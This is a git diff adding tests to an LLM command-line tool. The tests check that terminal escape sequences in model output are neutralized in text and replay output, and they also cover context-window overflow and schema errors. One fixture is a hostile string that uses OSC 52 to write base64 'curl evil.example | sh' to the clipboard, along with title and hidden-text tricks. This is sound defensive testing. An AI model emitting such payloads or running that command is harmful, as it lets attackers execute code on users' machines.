@@ -1,7 +1,8 @@
-import { existsSync, readFileSync, writeFileSync } from "node:fs";
+import { existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 import { afterEach, describe, expect, it } from "vitest";
 import { costUsd, defaultModel } from "../src/llm/models.js";
+import { hasHostileControls } from "../src/term/sanitize.js";
 import { runGar, spawnGar, tempHome } from "./support/cli.js";
 import { startWireServer, type WireServer } from "./support/wire-server.js";
 
@@ -178,8 +179,81 @@ describe("gar -p", () => {
 		expect(result.result).toContain("tick");
 	});
 
+	it("text output shows the model's escape sequences into a pipe too; json and stream-json keep them exact", async () => {
+		// The title (OSC 0) and the clipboard (OSC 52: "curl evil.example | sh"), and a \r that would hide text.
+		const hostile = "Done.\x1b]0;pwned\x07\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07 safe\rhidden\u202e";
+		server = await startWireServer([{ text: hostile }, { text: hostile }, { text: hostile }]);
+		const { project, env } = tempHome();
+		const opts = { env: { ...env, OPENAI_API_KEY: "k" }, cwd: project };
+		const text = await runGar(["-p", "hi", "--base-url", server.url], opts);
+		expect(text.code).toBe(0);
+		expect(text.stdout).toBe("Done.␛]0;pwned^G␛]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==^G safe^Mhidden⟨U+202E⟩\n");
+		const json = await runGar(["-p", "hi", "--output", "json", "--base-url", server.url], opts);
+		const result = JSON.parse(json.stdout);
+		expect(result.result).toBe(hostile);
+		const stream = await runGar(["-p", "hi", "--output", "stream-json", "--base-url", server.url], opts);
+		expect(JSON.parse(stream.stdout.trim().split("\n").at(-1) ?? "").result).toBe(hostile);
+		// gar replay's text (a transcript for a person) is made safe too; its stream-json stays exact.
+		const replay = await runGar(["replay", result.sessionId], opts);
+		expect(replay.code).toBe(0);
+		expect(replay.stdout).toContain("Done.␛]0;pwned^G␛]52;c;");
+		expect(hasHostileControls(replay.stdout)).toBe(false);
+		const replayJson = await runGar(["replay", result.sessionId, "--output", "stream-json"], opts);
+		const end = replayJson.stdout
+			.trim()
+			.split("\n")
+			.map((l) => JSON.parse(l))
+			.find((e) => e.type === "message_end");
+		expect(end.message.content[0].text).toBe(hostile);
+	});
+
+	it("refuses a prompt larger than the model's window before sending anything, with the numbers (exit 1)", async () => {
+		server = await startWireServer([{ text: "never" }, { text: "never" }]);
+		const { root, project, env } = tempHome();
+		mkdirSync(join(root, "config", "gar"), { recursive: true });
+		writeFileSync(join(root, "config", "gar", "config.toml"), "[context]\nwindow = 8000\n");
+		const opts = { env: { ...env, OPENAI_API_KEY: "k" }, cwd: project };
+		const prompt = `summarize this: ${"word ".repeat(8000)}`;
+		const json = await runGar(["-p", prompt, "--output", "json", "--base-url", server.url], opts);
+		expect(json.code).toBe(1);
+		const result = JSON.parse(json.stdout);
+		expect(result).toMatchObject({ ok: false, stopReason: "error", errorKind: "overflow", turns: 0 });
+		expect(result.error).toMatch(
+			/^the prompt is about 10,0\d\d tokens; with the system prompt and tools \([\d,]+\) it does not fit the 8,000-token context window of /,
+		);
+		const text = await runGar(["-p", prompt, "--base-url", server.url], opts);
+		expect(text.code).toBe(1);
+		expect(text.stdout).toBe("");
+		expect(text.stderr).toBe(`gar: ${result.error}\n`);
+		expect(server.requests).toHaveLength(0);
+		// The prompt was not saved: continuing the session does not overflow too.
+		const args = ["-p", "hi", "--session", result.sessionId, "--output", "json", "--base-url", server.url];
+		const continued = await runGar(args, opts);
+		expect(continued.stderr).toBe("");
+		expect(JSON.parse(continued.stdout)).toMatchObject({ ok: true, result: "never" });
+		expect(JSON.stringify(server.requests[0]?.body)).not.toContain("word word");
+	});
+
+	it("a failed --schema run in text mode prints nothing on stdout and the error on stderr", async () => {
+		server = await startWireServer([{ text: "seven" }, { text: "still seven" }, { text: "7, I said" }]);
+		const { project, env } = tempHome();
+		writeFileSync(
+			join(project, "schema.json"),
+			JSON.stringify({ type: "object", properties: { answer: { type: "integer" } }, required: ["answer"] }),
+		);
+		const run = await runGar(["-p", "q", "--schema", "schema.json", "--base-url", server.url], {
+			env: { ...env, OPENAI_API_KEY: "k" },
+			cwd: project,
+		});
+		expect(run.code).toBe(1);
+		expect(run.stdout).toBe("");
+		expect(run.stderr).toMatch(/^gar: the answer does not match the schema: the answer is not valid JSON/);
+		expect(run.stderr.trim().split("\n")).toHaveLength(1);
+	});
+
 	it("validates structured output against --schema", async () => {
-		server = await startWireServer([{ text: "The answer is 7" }, { text: '{"answer": 7}' }]);
+		const turns = [{ text: "The answer is 7" }, { text: '{"answer": 7}' }];
+		server = await startWireServer([...turns, ...turns]);
 		const { project, env } = tempHome();
 		writeFileSync(
 			join(project, "schema.json"),
@@ -193,5 +267,12 @@ describe("gar -p", () => {
 		expect(JSON.parse(run.stdout)).toMatchObject({ ok: true, structured: { answer: 7 } });
 		const second = server.requests[1]?.body as { response_format?: { type: string } };
 		expect(second.response_format?.type).toBe("json_schema");
+		// In text mode, stdout is the validated JSON alone.
+		const text = await runGar(["-p", "q", "--schema", "schema.json", "--base-url", server.url], {
+			env: { ...env, OPENAI_API_KEY: "k" },
+			cwd: project,
+		});
+		expect(text.code).toBe(0);
+		expect(text.stdout).toBe('{"answer":7}\n');
 	});
 });
